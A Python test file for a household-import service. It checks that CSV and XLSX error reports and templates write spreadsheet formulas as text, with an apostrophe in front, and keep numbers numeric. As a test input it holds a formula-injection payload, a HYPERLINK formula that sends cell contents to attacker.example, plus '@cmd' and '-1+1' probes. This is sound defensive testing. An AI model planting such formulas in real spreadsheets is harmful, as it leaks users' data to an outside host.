"""The CSV and XLSX files the import writes (error reports, templates) carry no formulas: a text
that a spreadsheet would run is written with an apostrophe before it, numbers stay numbers."""

import csv
import io
import json
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook

from households.imports import layout

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


async def test_the_error_report_writes_formulas_as_text(
    client: httpx.AsyncClient, files: Any, upload: Any, run_jobs: Any
) -> None:
    [document] = files.documents(1)
    content = json.dumps({**document, FORMULA: 1, "@cmd": 2}).encode() + b"\n"
    accepted = await upload("households.jsonl", content)
    assert accepted.status_code == 202, accepted.text
    await run_jobs()

    response = await client.get(f"/api/v1/imports/{accepted.json()['id']}/errors.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["row", "field", "message"]
    assert sorted(row[1] for row in rows[1:]) == sorted(["'" + FORMULA, "'@cmd"])


@pytest.fixture
def hostile_example(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """The templates' example household, with texts a spreadsheet would run and a negative
    number (the template is built once: its cache is emptied before and after)."""
    original = layout.example_rows

    def example_rows() -> list[dict[str, str]]:
        head, child = original()
        return [head | {"village": "-1+1", "head_name": FORMULA, "floor_area_m2": "-5"}, child]

    monkeypatch.setattr(layout, "example_rows", example_rows)
    layout.xlsx_template.cache_clear()
    yield
    layout.xlsx_template.cache_clear()


@pytest.mark.usefixtures("hostile_example")
async def test_the_templates_write_formulas_as_text(client: httpx.AsyncClient) -> None:
    names = [column.name for column in layout.COLUMNS]

    text = (await client.get("/api/v1/imports/template.csv")).content.decode("utf-8-sig")
    head = dict(zip(names, list(csv.reader(io.StringIO(text)))[1], strict=True))
    assert (head["village"], head["head_name"]) == ("'-1+1", "'" + FORMULA)

    content = (await client.get("/api/v1/imports/template.xlsx")).content
    sheet = load_workbook(io.BytesIO(content))[layout.SHEET]
    cells = dict(zip(names, sheet[2], strict=True))
    assert (cells["village"].value, cells["head_name"].value) == ("'-1+1", "'" + FORMULA)
    assert cells["head_name"].data_type == "s"  # not a formula cell
    assert cells["floor_area_m2"].value == -5  # a number, as it was
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
